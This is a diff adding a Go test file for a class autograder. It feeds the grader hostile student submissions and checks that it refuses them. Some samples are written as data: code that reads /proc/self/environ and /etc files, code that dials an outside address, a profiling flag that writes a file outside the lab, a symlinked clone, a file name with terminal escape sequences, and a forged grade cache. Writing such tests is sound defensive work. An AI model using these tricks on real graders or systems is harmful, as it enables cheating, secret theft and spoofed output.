@@ -1,0 +1,158 @@
+package main
+
+import (
+	"encoding/base64"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+
+	"termlab/labs/testrun"
+)
+
+// The class grader against hostile submissions (issue 30): each attack
+// class as a test, each failing on the lab before the guard.
+
+// grade --format (GitHub Classroom, Gradescope) had no import gate: a
+// todo.go that called the reference solutions scored full marks. Now it
+// goes through the lab's one gate, which names the file and the import,
+// and grades nothing.
+func TestGradeFormatGate(t *testing.T) {
+	testrun.Slow(t, "builds and runs the worker")
+	l := newLab(t, "")
+	alice := classFixture(t, "alice/todo.go")
+	notdone := l.read("labs/day45/notdone.go")
+	// Classroom's answer is base64 of its JSON (autograde.Classroom).
+	text := func(f string, r result) string {
+		if f != "classroom" {
+			return r.stdout
+		}
+		data, err := base64.StdEncoding.DecodeString(strings.TrimSpace(r.stdout))
+		if err != nil {
+			t.Fatalf("classroom's answer is not base64: %v\n%s", err, r)
+		}
+		return string(data)
+	}
+	for _, tc := range []struct{ name, imports, refused string }{
+		{"the solutions", `import ( "time"; _ "termlab/solutions/day45" )`, "termlab/solutions/day45"},
+		{"a raw string", "import (\n\t\"time\"\n\t_ `os`\n)", "os"},
+		{"text/template", "import (\n\t\"time\"\n\t_ \"text/template\"\n)", "text/template"},
+	} {
+		l.write("labs/day45/todo.go", strings.Replace(alice, `import "time"`, tc.imports, 1))
+		for _, f := range []string{"classroom", "gradescope"} {
+			r := l.run("grade", "45", "--format", f)
+			if out := text(f, r); !strings.Contains(out, `labs/day45/todo.go imports \"`+tc.refused+`\"`) || strings.Contains(out, `"status":"pass"`) {
+				t.Errorf("%s, %s: not refused by name\n%s", tc.name, f, r)
+			}
+		}
+	}
+	// The lab's own notdone.go, changed to reach the solutions, is gated
+	// like the student's file.
+	l.write("labs/day45/todo.go", alice)
+	l.write("labs/day45/notdone.go", "package day45\n\nimport \"termlab/solutions/day45\"\n\nvar notDone = day45.TakeToken\n")
+	if r := l.run("grade", "45", "--format", "classroom"); !strings.Contains(text("classroom", r), `notdone.go imports \"termlab/solutions/day45\"`) {
+		t.Errorf("a changed notdone.go: not refused\n%s", r)
+	}
+	// An allowed submission is graded as before.
+	l.write("labs/day45/notdone.go", notdone)
+	if r := l.run("grade", "45", "--format", "classroom"); strings.Contains(text("classroom", r), "refused") || !strings.Contains(text("classroom", r), `"status":"pass"`) {
+		t.Errorf("alice's file was not graded\n%s", r)
+	}
+}
+
+// A class with hostile submissions beside a correct (alice) and a wrong
+// one (bob): every attack of issue 30 that a submission can make through
+// grade-class is refused or has no effect, and alice and bob keep their
+// grades, on the first run and on a re-run from a cache a forger changed.
+func TestGradeClassHostile(t *testing.T) {
+	testrun.Slow(t, "builds and runs the worker")
+	l := newLab(t, "")
+	cacheHome := t.TempDir()
+	l.env = append(l.env, "XDG_CACHE_HOME="+cacheHome)
+	dir, elsewhere := t.TempDir(), t.TempDir()
+	alice := classFixture(t, "alice/todo.go")
+	writeFile(t, filepath.Join(dir, "alice.go"), alice)
+	writeFile(t, filepath.Join(dir, "bob.go"), classFixture(t, "bob.go"))
+	with := func(imports, init string) string {
+		return strings.Replace(alice, `import "time"`, imports, 1) + init
+	}
+	dropped := filepath.Join(elsewhere, "dropped.prof")
+	for who, src := range map[string]string{
+		// Writes a file anywhere, through the testing package's flags.
+		"m-testing": with("import (\n\t\"testing\"\n\t\"flag\"\n\t\"time\"\n)", "\nfunc init() { testing.Init(); flag.Set(\"test.cpuprofile\", "+strconv.Quote(dropped)+") }\n"),
+		// Reads any file, through a template parser that opens paths.
+		"m-template": with("import (\n\t\"text/template\"\n\t\"time\"\n)", "\nvar _, _ = template.ParseFiles(\"/proc/self/environ\")\n"),
+		"m-html":     with("import (\n\t\"html/template\"\n\t\"time\"\n)", "\nvar _, _ = template.ParseGlob(\"/etc/*\")\n"),
+		// Sends it out, through a package that dials.
+		"m-dial": with("import (\n\t\"crypto/tls\"\n\t\"time\"\n)", "\nvar _, _ = tls.Dial(\"tcp\", \"198.51.100.1:443\", nil)\n"),
+		// The text search's blind spots, and the solutions.
+		"m-raw":     with("import (\n\t`os`\n\t\"time\"\n)", "\nvar _ = os.Getpid\n"),
+		"m-oneline": with(`import ( "time"; _ "termlab/solutions/day45" )`, ""),
+		"m-unsafe":  with("import (\n\t\"time\"\n\t_ \"unsafe\"\n)", ""),
+		"m-net":     with("import (\n\t\"time\"\n\t_ \"net\"\n)", ""),
+	} {
+		writeFile(t, filepath.Join(dir, who+".go"), src)
+	}
+	// A clone whose labs/ is a link to files elsewhere (alice's, here).
+	writeFile(t, filepath.Join(elsewhere, "labs", "day45", "todo.go"), alice)
+	writeFile(t, filepath.Join(dir, "m-link", "README.md"), "a clone")
+	if err := os.Symlink(filepath.Join(elsewhere, "labs"), filepath.Join(dir, "m-link", "labs")); err != nil {
+		t.Fatal(err)
+	}
+	// A name that would clear the screen and print a fake row.
+	writeFile(t, filepath.Join(dir, "m-name\x1b[2J\x1b[H\nzed    pass    pass     pass    pass    4 of 4\r.go"), classFixture(t, "bob.go"))
+
+	for round := range 2 {
+		r := l.run("grade-class", "45", dir)
+		l.want(r, 0)
+		if controls(r.stdout) || controls(r.stderr) {
+			t.Errorf("round %d: a control character reaches the terminal\n%q", round, r.stdout)
+		}
+		for _, want := range []*regexp.Regexp{
+			regexp.MustCompile(`(?m)^alice +pass +pass +pass +pass +4/4`),
+			regexp.MustCompile(`(?m)^bob +fail +pass +fail +pass +2/4`),
+			regexp.MustCompile(`(?m)^m-testing +refused .*imports "testing"`),
+			regexp.MustCompile(`(?m)^m-template +refused .*imports "text/template"`),
+			regexp.MustCompile(`(?m)^m-html +refused .*imports "html/template"`),
+			regexp.MustCompile(`(?m)^m-dial +refused .*imports "crypto/tls"`),
+			regexp.MustCompile(`(?m)^m-raw +refused .*imports "os"`),
+			regexp.MustCompile(`(?m)^m-oneline +refused .*imports "termlab/solutions/day45"`),
+			regexp.MustCompile(`(?m)^m-unsafe +refused .*imports "unsafe"`),
+			regexp.MustCompile(`(?m)^m-net +refused .*imports "net"`),
+			regexp.MustCompile(`(?m)^m-link +refused .*labs is a symbolic link`),
+			regexp.MustCompile(`(?m)^m-name\?.*4 of 4\? +fail +pass +fail +pass +2/4`),
+		} {
+			if !want.MatchString(r.stdout) {
+				t.Errorf("round %d: the table lacks %s\n%s", round, want, r)
+			}
+		}
+		if regexp.MustCompile(`(?m)^zed`).MatchString(r.stdout) {
+			t.Errorf("round %d: a name started a row of its own\n%s", round, r.stdout)
+		}
+		if _, err := os.Stat(dropped); err == nil {
+			t.Errorf("round %d: a submission wrote %s", round, dropped)
+		}
+		if round == 1 {
+			if !strings.Contains(r.stderr, "cached grade of alice was not sealed by this grader") {
+				t.Errorf("the forged entry was not reported\n%s", r)
+			}
+			break
+		}
+		// A forger rewrites alice's cached entry as all failing, as the
+		// cache was written before it was sealed.
+		entries, _ := filepath.Glob(filepath.Join(cacheHome, "termlab", "grade-class", "day45-*", "*.json"))
+		forged := 0
+		for _, e := range entries {
+			data, _ := os.ReadFile(e)
+			if strings.Contains(string(data), `"who":"alice"`) {
+				os.WriteFile(e, []byte(strings.ReplaceAll(string(data), `"status":"pass"`, `"status":"fail"`)), 0o644)
+				forged++
+			}
+		}
+		if forged != 1 {
+			t.Fatalf("%d cache entries of alice's among %v", forged, entries)
+		}
+	}
+}
